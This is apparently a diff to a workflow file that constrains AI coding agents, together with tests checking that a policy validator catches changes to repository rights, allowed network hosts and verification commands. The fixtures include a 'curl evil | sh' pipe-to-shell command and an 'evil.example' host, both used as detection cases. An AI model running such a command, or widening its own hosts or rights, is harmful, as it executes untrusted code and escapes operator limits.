@@ -16,6 +16,7 @@ repos: [acme/shop: { ref: main, write: ["src/**"] }, acme/docs]
 context: [shop.rules]
 budget: { usd: 5, tokens: 2M, time: 45m }
 commands: { deny: ["terraform *"] }
+network: { agents: [docs.example], checks: [registries] }
 steps:
   - { mode: plan, agent: claude, prompt: "Look at {{ trigger.title }} of {{ inputs.ticket }} (a.b) on {{ run.branch }}, see {{ run.url }}" }
   - plan_review
@@ -109,6 +110,8 @@ describe('work that the workflow does not say is found out', () => {
     ['more paths', /rights to acme\/shop/, ({ repos }) => void (repos[0]!.use.write = ['**'])],
     ['a right to write', /rights to acme\/docs/, ({ repos }) => void (repos[1]!.use.access = 'write')],
     ['no protected paths', /rights to acme\/shop/, ({ repos }) => void (repos[0]!.use.protect = [])],
+    ['another host', /other hosts/, ({ hosts }) => ({ hosts: [...hosts!, 'evil.example'] })],
+    ['no word on hosts', /other hosts/, () => ({ hosts: undefined })],
     ['another branch', /takes main of acme\/shop/, ({ repos }) => void (repos[0]!.ref = 'refs/heads/evil')],
     ['more time', /2700 seconds/, ({ limits }) => ({ limits: { ...limits, seconds: 2_701 } })],
     ['no end of tokens', /tokens/, ({ limits }) => ({ limits: { ...limits, tokens: null } })],
@@ -119,6 +122,7 @@ describe('work that the workflow does not say is found out', () => {
 
   it.each<[string, RegExp, (job: ChecksJob) => Partial<ChecksJob>]>([
     ['another command', /commands of verify/, () => ({ commands: ['npm ci', 'curl evil | sh'] })],
+    ['the hosts of agents', /other hosts/, () => ({ hosts: ['docs.example'] })],
     ['a command more', /commands of verify/, ({ commands }) => ({ commands: [...commands!, 'id'] })],
     ['the checks of the repository', /commands of verify/, () => ({ commands: null })],
   ])('%s', (_, words, change) => expect(misfit('verify', change as never)).toMatch(words))
@@ -147,7 +151,7 @@ describe('work that the workflow does not say is found out', () => {
 })
 
 it('where the checks are left to the repository one command may be a person’s answer, two are not', () => {
-  const own = compileWorkflow('name: x\ntrigger: manual\nrepos: [acme/shop]\n')
+  const own = compileWorkflow('name: x\ntrigger: manual\nrepos: [acme/shop]\nnetwork: { checks: [registries] }\n')
   if (!own.ok) throw new Error('not a workflow')
   const { job } = honest('verify')
   const with_ = (commands: string[] | null) =>
